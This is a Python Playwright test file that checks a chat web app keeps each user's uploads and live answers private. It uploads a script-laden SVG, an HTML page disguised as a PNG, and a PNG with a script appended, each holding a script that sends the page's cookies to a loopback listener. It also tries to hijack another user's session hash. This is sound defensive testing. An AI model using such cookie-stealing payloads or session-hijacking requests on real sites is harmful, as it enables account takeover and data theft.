"""One account against another in a real browser (Playwright, Debian chromium): uploads and
live answers stay with their user.

`megrez-search ui` runs as a real process with accounts alice and bob, the stand-in model,
and Gradio's temp folder inside the test's folder (to see what is kept there). Bob attaches
an SVG whose script calls a loopback listener, an HTML page named .png and a PNG with HTML
after its end. Alice then opens every file the server keeps: nothing runs, nothing is
served to her. Bob sees his picture only as re-encoded pixels, marked inert. Then Alice's
answer is running, and Bob (and a browser with no login) asks for its stream and cancels it
with her session hash: refused; her own Stop still works.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from PIL import Image

from accounts import Accounts
from core.settings import Settings
from store import open_database
from tests.support.listener import Listener, serve_listener
from tests.support.page import log_in
from tests.support.processes import ARTIFACTS, megrez_process
from tests.support.standin_model import SLOW_MARK, StandinServer, serve_standin_model

playwright_api = pytest.importorskip("playwright.sync_api")
expect = playwright_api.expect

PASSWORDS = {"alice": "alice-password", "bob": "bob-password"}
PAYLOAD_MARK = b"megrez-payload"


@dataclass
class Server:
    url: str
    folder: Path
    model: StandinServer
    listener: Listener


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("isolation")
    settings = Settings(data_dir=folder / "data")
    database = open_database(settings.store)
    for name, password in PASSWORDS.items():
        Accounts(database).add(name, password)
    database.close()
    with serve_listener() as listener, serve_standin_model() as model:
        env = {"MEGREZ_MODEL": model.spec, "GRADIO_TEMP_DIR": str(folder / "gradio")}
        with megrez_process(["ui"], settings, "/", folder / "ui.log", env) as base:
            yield Server(base, folder, model, listener)


def hostile_files(folder: Path, listener: Listener) -> list[Path]:
    script = (
        f"window.pwned = 1; fetch('{listener.url}/ran?c=' + encodeURIComponent(document.cookie));"
        f"new Image().src = '{listener.url}/img';"
    )
    svg = folder / "evil.svg"
    svg.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">'
        f"<script>{script}</script><!-- megrez-payload --></svg>"
    )
    page = folder / "page.png"
    page.write_text(f"<html><body><script>{script}</script>megrez-payload</body></html>")
    photo = folder / "photo.png"
    pixels = io.BytesIO()
    Image.new("RGB", (64, 48), "teal").save(pixels, "PNG")
    photo.write_bytes(pixels.getvalue() + f"<script>{script}</script>megrez-payload".encode())
    return [svg, page, photo]


def kept_files(server: Server) -> list[Path]:
    return [p for p in server.folder.rglob("*") if p.is_file() and p.suffix != ".log"]


def file_url(server: Server, path: Path) -> str:
    return f"{server.url}/gradio_api/file={quote(str(path))}"


def opens_inert(page: Any, url: str) -> int:
    """Open `url` as a page; the status, after checking that no script ran in it."""
    response = page.goto(url)
    assert page.evaluate("() => window.pwned === undefined"), url
    return int(response.status)


def test_an_upload_is_kept_inert_and_served_to_its_owner_only(
    browser: Any, server: Server, tmp_path: Path
) -> None:
    alice = log_in(browser, server.url, "alice", PASSWORDS["alice"], search=False)
    bob = log_in(browser, server.url, "bob", PASSWORDS["bob"], search=False)
    users = bob.locator("#chat [data-testid='user']")
    uploads = hostile_files(tmp_path, server.listener)
    with bob.expect_response(lambda r: "/gradio_api/upload" in r.url) as uploaded:
        bob.locator("#question input[type=file]").set_input_files([str(f) for f in uploads])
    # Uploaded, not yet sent: Gradio's copies are Bob's alone too.
    for path in uploaded.value.json():
        assert alice.context.request.get(file_url(server, Path(path))).status == 404
    box = bob.locator("#question textarea")
    box.fill("What is in this picture?")
    box.press("Enter")
    expect(users.first).to_be_visible()
    # The line under the chat stays empty while a turn runs and says how it ended.
    expect(bob.locator("#status")).to_have_text(re.compile(r"\S"), timeout=120_000)
    # Whatever the server keeps (the data dir, Gradio's temp folder), Alice gets none of it,
    # and opening it runs nothing; the refused files are not kept at all.
    kept = kept_files(server)
    assert not [p for p in kept if PAYLOAD_MARK in p.read_bytes()]
    own_files = [p for p in kept if "uploads" in p.parts or "megrez-owned" in p.parts]
    assert own_files
    for path in own_files:
        assert opens_inert(alice, file_url(server, path)) in {403, 404}, path

    chat = bob.locator("#chat")
    expect(chat).to_contain_text("cannot use evil.svg")
    expect(chat).to_contain_text("cannot use page.png")
    assert str(server.folder) not in chat.inner_text()  # no server path in any message
    ARTIFACTS.mkdir(exist_ok=True)
    bob.screenshot(path=str(ARTIFACTS / "isolation-bob.png"), full_page=True)

    # Bob's picture is shown to him as pixels only: PNG, re-encoded, marked inert.
    shown = bob.locator("#chat [data-testid='user'] img").first.evaluate("img => img.src")
    own = bob.context.request.get(shown)
    assert own.status == 200 and own.headers["content-type"] == "image/png"
    assert own.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in own.headers["content-security-policy"]
    assert PAYLOAD_MARK not in own.body()
    assert Image.open(io.BytesIO(own.body())).size == (64, 48)
    assert opens_inert(bob, shown) == 200
    exports = [p for p in kept_files(server) if "megrez-owned" in p.parts and p.suffix == ".md"]
    assert exports  # the chat's export, offered to Bob as a download only
    export = bob.context.request.get(file_url(server, exports[0]))
    assert export.status == 200 and export.headers["content-disposition"].startswith("attachment")
    assert opens_inert(alice, shown) == 404
    assert server.listener.heard == []


def session_hash_of(page: Any, action: Any) -> str:
    with page.expect_request(lambda r: "/gradio_api/queue/join" in r.url) as joined:
        action()
    return str(joined.value.post_data_json["session_hash"])


def test_a_live_answer_is_bound_to_its_user(browser: Any, server: Server) -> None:
    alice = log_in(browser, server.url, "alice", PASSWORDS["alice"], search=False)
    bob = log_in(browser, server.url, "bob", PASSWORDS["bob"], search=False)
    box = alice.locator("#question textarea")
    box.fill(f"{SLOW_MARK} Alice's secret plan?")
    session = session_hash_of(alice, lambda: box.press("Enter"))
    assert server.model.slow_started.wait(120), "Alice's turn never reached the model"

    bob_cookies = {c["name"]: c["value"] for c in bob.context.cookies()}
    for cookies, refused in ((bob_cookies, 403), ({}, 401)):
        with httpx.Client(base_url=server.url, cookies=cookies, timeout=30) as client:
            with client.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as live:
                assert live.status_code == refused
                assert "secret" not in live.read().decode()
            with client.stream("GET", f"/gradio_api/heartbeat/{session}") as beat:
                assert beat.status_code == refused
            state = client.get("/gradio_api/deep_link", params={"session_hash": session})
            assert state.status_code == refused
            body = {"session_hash": session, "fn_index": 0, "event_id": "x"}
            assert client.post("/gradio_api/cancel", json=body).status_code == refused

    expect(alice.locator("#stop")).to_be_visible()
    alice.locator("#stop").click()
    expect(alice.locator("#status")).to_contain_text("Stopped", timeout=60_000)
    expect(alice.locator("#chat")).to_contain_text("Alice's secret plan?")
